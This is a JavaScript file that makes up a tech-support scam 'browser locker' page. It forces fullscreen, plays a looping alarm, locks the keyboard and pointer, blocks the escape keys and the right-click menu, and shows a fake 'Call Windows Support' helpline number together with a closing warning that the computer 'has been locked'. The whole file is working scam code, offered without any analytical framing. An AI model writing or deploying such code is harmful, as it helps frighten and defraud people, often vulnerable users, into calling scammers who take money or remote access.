var phone = "+1-000-000-0000";
var snd = new Audio("media/_Fm7-alert.mp3");
snd.loop = true;
snd.volume = 1;

function goFull() {
  var el = document.documentElement;
  var rfs = el.requestFullscreen || el.webkitRequestFullScreen || el.mozRequestFullScreen || el.msRequestFullscreen;
  if (rfs) rfs.call(el);
}
function lock() {
  goFull();
  snd.play();
  if (navigator.keyboard && navigator.keyboard.lock) navigator.keyboard.lock();
  if (document.body.requestPointerLock) document.body.requestPointerLock();
  document.getElementById("footer").innerHTML = "Call Windows Support <b>" + phone + "</b> (Security Helpline)";
  document.querySelector(".black").style.display = "block";
}
$(document).ready(function () {
  $("#mycanvas").click(lock);
  $("body").mouseover(lock);
  $(document).on("contextmenu", function () { return false; });
  document.onkeydown = function (e) {
    e = e || window.event;
    if (e.keyCode == 27 || e.keyCode == 122 || e.keyCode == 123 || e.ctrlKey || e.altKey) {
      lock();
      return false;
    }
    return false;
  };
  $(document).on("fullscreenchange", function () { if (!document.fullscreenElement) $("#pop_up_new").fadeIn(); });
});
window.onbeforeunload = function () {
  return "Your computer has been locked. Do not close this window. Call " + phone;
};
